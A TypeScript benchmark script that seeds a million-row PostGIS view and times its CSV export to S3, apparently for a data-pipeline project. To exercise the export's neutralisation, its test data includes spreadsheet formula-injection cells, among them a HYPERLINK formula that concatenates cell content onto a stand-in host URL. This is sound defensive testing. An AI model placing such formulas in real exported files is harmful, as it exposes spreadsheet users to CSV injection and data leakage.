/**
 * `npx tsx bench/export-csv.ts`: the curated CSV export of a 1,000,000-row view (BENCH_EXPORT_ROWS),
 * six columns with a point — the figure README's "Exports" section gives. The view's text columns
 * hold 1 % cells a spreadsheet would read as formulas (`=…`, `-…`, `@…`), which the export
 * neutralises. Setup (not timed): the table `bench_export.places` and its view, and a bucket in the
 * S3 of .local/env. Each run (BENCH_RUNS, default 3) is one `exportWithRetries` of the view as CSV
 * (snapshot, COPY, CRLF, multipart upload, manifest), timed whole.
 * Ends with `RESULT export-csv median=<s> runs=<s,…> rows=<n> unit=s`.
 */
import { CreateBucketCommand } from '@aws-sdk/client-s3';
import pg from 'pg';
import type { PipelineDefinition, ViewDefinition } from '../contract/definition.ts';
import { s3Client } from '../functions/common/aws.ts';
import { exportWithRetries } from '../functions/combine/exports.ts';

const ROWS = Number(process.env.BENCH_EXPORT_ROWS ?? 1_000_000);
const RUNS = Number(process.env.BENCH_RUNS ?? 3);
const BUCKET = 'bench-export-csv';

const pool = new pg.Pool({ connectionString: process.env.DATABASE_URL });
const { rows: have } = await pool
  .query<{ n: string | null }>(`SELECT CASE WHEN to_regclass('bench_export.places') IS NOT NULL THEN (SELECT count(*) FROM bench_export.places) END AS n`)
  .catch(() => ({ rows: [{ n: null }] }));
if (Number(have[0]?.n ?? -1) !== ROWS) {
  await pool.query(`DROP SCHEMA IF EXISTS bench_export CASCADE; CREATE SCHEMA bench_export`);
  await pool.query(`CREATE TABLE bench_export.places AS
    SELECT i AS id,
           CASE i % 100 WHEN 0 THEN '=HYPERLINK("http://x/"&A' || i || ')' WHEN 1 THEN '-' || i || ' dash' ELSE 'place ' || i END AS name,
           CASE i % 100 WHEN 2 THEN '@SUM(A' || i || ')' ELSE 'category ' || (i % 37) END AS category,
           (i % 1000 - 500) / 4.0 AS amount,
           DATE '2020-01-01' + (i % 1500) AS day,
           ST_SetSRID(ST_MakePoint(4 + (i % 1000) / 1000.0, 52 + (i / 1000 % 1000) / 1000.0), 4326)::geometry(Point, 4326) AS geom
      FROM generate_series(1, ${ROWS}) i`);
  await pool.query(`CREATE VIEW bench_export.places_gold AS SELECT * FROM bench_export.places ORDER BY id`);
  await pool.query('VACUUM ANALYZE bench_export.places');
}
const s3 = s3Client();
await s3.send(new CreateBucketCommand({ Bucket: BUCKET })).catch(() => undefined);

const view = { name: 'places_gold', datasets: ['places'], sql: 'unused', export: { formats: ['csv'] } } as unknown as ViewDefinition;
const pipeline = { project: 'bench_export', views: [view] } as unknown as PipelineDefinition;
const times: number[] = [];
for (let run = 0; run < RUNS; run++) {
  const started = performance.now();
  const outcome = await exportWithRetries({ pool, pipeline, s3, bucket: BUCKET, limits: { attempts: 1 } }, view);
  const seconds = (performance.now() - started) / 1000;
  if (outcome.status !== 'exported' || outcome.rowCount !== ROWS) throw new Error(`export did not run: ${JSON.stringify(outcome)}`);
  times.push(seconds);
  console.log(`run ${run + 1}: ${seconds.toFixed(2)} s (${Math.round(ROWS / seconds).toLocaleString('en')} rows/s)`);
}
const median = [...times].sort((a, b) => a - b)[Math.floor(times.length / 2)]!;
console.log(`RESULT export-csv median=${median.toFixed(2)} runs=${times.map((t) => t.toFixed(2)).join(',')} rows=${ROWS} unit=s`);
await pool.end();
